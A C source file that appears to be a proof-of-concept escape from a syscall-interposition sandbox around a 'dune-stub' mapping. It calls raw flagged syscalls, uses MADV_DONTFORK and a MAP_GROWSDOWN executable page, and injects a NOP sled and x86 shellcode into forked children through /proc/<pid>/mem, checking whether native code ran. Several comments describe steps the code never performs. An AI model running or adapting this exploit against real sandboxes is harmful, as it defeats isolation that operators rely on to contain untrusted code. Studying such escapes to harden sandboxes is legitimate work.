/* MADV_DONTFORK takes the stub from a child; a stack above grows into its place */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <fcntl.h>
#include <string.h>
#include <errno.h>
#include <sched.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/resource.h>
#define RAW (1<<16)
static unsigned long stub,end;
static const unsigned char code[]={0xb8,20,0,0,0,0xcd,0x80,0xbb,78,0,0,0,0xb8,1,0,0,0,0xcd,0x80};
int main(int c,char**v){
 char line[300]; int n=0; unsigned long a,b; char r[8];
 setvbuf(stdout,0,_IONBF,0);
 FILE*f=fopen("/proc/self/maps","r");
 unsigned long fr_end=0, stubend=0;
 while(fgets(line,300,f)){ if(strstr(line,"dune-stub")){sscanf(line,"%lx-%lx",&stub,&stubend);} }
 fclose(f); f=fopen("/proc/self/maps","r");
 printf("stub %lx-%lx\n",stub,stubend);
 long e=syscall(SYS_madvise|RAW,stub,stubend-stub,MADV_DONTFORK);
 printf("madvise DONTFORK: %ld %s\n",e,e<0?strerror(errno):"");
 /* scratch is right above the stub: replace its first page by a growing stack (raw) */
 long m=syscall(SYS_mmap|RAW,stubend,4096,PROT_READ|PROT_WRITE|PROT_EXEC,MAP_PRIVATE|MAP_ANONYMOUS|MAP_FIXED|MAP_GROWSDOWN,-1,0);
 printf("mmap growsdown: %lx\n",m);
 /* own CPU: the child waits for it */
 cpu_set_t s; CPU_ZERO(&s); CPU_SET(0,&s);
 for(int t=0;t<60;t++){
  int go[2]; pipe(go);
  /* a spinner of the same CPU, and the parent on CPU 1 at the moment that the child exists */
  CPU_ZERO(&s); CPU_SET(0,&s); syscall(SYS_sched_setaffinity,0,sizeof s,&s);
  pid_t h=getpid();
  /* helper: writes the memory of any new child of h */
  pid_t k=fork();
  if(!k) _exit(0);
  char p[40]; sprintf(p,"/proc/%d/mem",k);
  int fd=syscall(SYS_open|RAW,p,O_RDWR), w=-1;
  unsigned char page[4096]; memset(page,0x90,4096); memcpy(page+4096-sizeof code-16,code,sizeof code);
  if(fd>=0) w=syscall(SYS_pwrite64|RAW,fd,page,4096,stub);
  int er=errno, st; waitpid(k,&st,0); close(fd);
  if(t<5||WIFEXITED(st)) printf("try %d: open %d write %d (%d) status %x%s\n",t,fd,w,er,st,WIFEXITED(st)&&WEXITSTATUS(st)==78?"  <- NATIVE CODE RAN":"");
  if(WIFEXITED(st)&&WEXITSTATUS(st)==78) break;
  close(go[0]);close(go[1]);
 }
 return 0;}
